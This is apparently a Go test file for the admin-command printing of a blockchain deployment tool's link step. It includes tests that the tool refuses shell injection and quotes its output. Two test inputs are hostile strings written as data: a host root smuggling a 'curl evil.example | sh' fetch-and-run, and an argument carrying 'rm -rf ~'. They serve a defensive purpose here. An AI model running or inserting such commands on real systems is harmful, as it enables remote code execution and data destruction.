package link

import (
	"bytes"
	"strings"
	"testing"
	"time"

	"github.com/statuscollect/statuscollect/deploy/network"
)

const twoHosts = `
name: t
hosts:
  - {name: relay, address: 10.0.0.1, root: /srv/relay}
  - {name: ops, address: 10.0.0.2, root: /srv/ops}
admin: {host: ops}
orgs: [{id: org-a, name: Org A, host: ops}]
main_chain:
  chain_id: main-1
  validators: [{org: org-a, host: ops}]
subchains:
  - {chain_id: sub-1, name: S, kind: other, members: [org-a], validators: [{org: org-a, host: ops, port_offset: 100}]}
paths: {status: [sub-1]}
daemons: {relayer: {host: relay}}
`

// With the admin's keys on another host, link prints the admin's command
// for that host and waits for the chain to show its effect.
func TestAdminElsewhere(t *testing.T) {
	n, err := network.Parse([]byte(twoHosts))
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	l := &linker{Options: Options{Network: n, AdminWait: time.Minute, Out: &out}, n: n, host: n.Host("relay")}
	calls := 0
	err = l.adminTx(n.Chain("main-1"), func() (bool, error) { calls++; return calls >= 2, nil },
		"statuscollect", "bind-client", "sub-1", "07-tendermint-0")
	if err != nil {
		t.Fatal(err)
	}
	want := "On host ops, the admin runs:\n  /srv/ops/bin/mainchaind tx statuscollect bind-client sub-1 07-tendermint-0 --from admin --home /srv/ops/clients/main-1"
	if !strings.Contains(out.String(), want) {
		t.Fatalf("printed:\n%s\nwant it to contain:\n%s", out.String(), want)
	}
	// Nothing happens: it gives up after --admin-wait, saying so.
	l.AdminWait = 0
	err = l.adminTx(n.Chain("main-1"), func() (bool, error) { return false, nil }, "statuscollect", "bind-client", "sub-1", "x")
	if err == nil || !strings.Contains(err.Error(), "not done within") {
		t.Fatalf("want a timeout, got %v", err)
	}
}

func TestNoRelayer(t *testing.T) {
	n, err := network.Parse([]byte(strings.Replace(strings.Replace(twoHosts, "daemons: {relayer: {host: relay}}", "", 1), "paths: {status: [sub-1]}", "", 1)))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := Run(Options{Network: n}); err == nil || !strings.Contains(err.Error(), "no relayer") {
		t.Fatalf("got %v", err)
	}
}

// The admin's host root is printed in a command to paste into a shell: one
// that would run something else is refused by the file's checks.
func TestAdminHostRootInjectionIsRefused(t *testing.T) {
	file := strings.Replace(twoHosts, "root: /srv/ops}", `root: "/srv/ops;curl${IFS}-s${IFS}evil.example|sh;#"}`, 1)
	_, err := network.Parse([]byte(file))
	if err == nil || !strings.Contains(err.Error(), `hosts[1] (ops): root "/srv/ops;curl${IFS}-s${IFS}evil.example|sh;#" has characters other than`) {
		t.Fatalf("got %v", err)
	}
}

// Every word of the printed command is shell-quoted when it needs it, so
// what the admin pastes is the one command link means.
func TestAdminCommandIsShellQuoted(t *testing.T) {
	n, err := network.Parse([]byte(twoHosts))
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	l := &linker{Options: Options{Network: n, Out: &out}, n: n, host: n.Host("relay")}
	_ = l.adminTx(n.Chain("main-1"), func() (bool, error) { return false, nil }, "statuscollect", "bind-client", "sub-1", "it's; rm -rf ~", "")
	want := `/srv/ops/bin/mainchaind tx statuscollect bind-client sub-1 'it'\''s; rm -rf ~' '' --from admin --home /srv/ops/clients/main-1 --keyring-backend test`
	if !strings.Contains(out.String(), want) {
		t.Fatalf("printed:\n%s\nwant it to contain:\n%s", out.String(), want)
	}
}
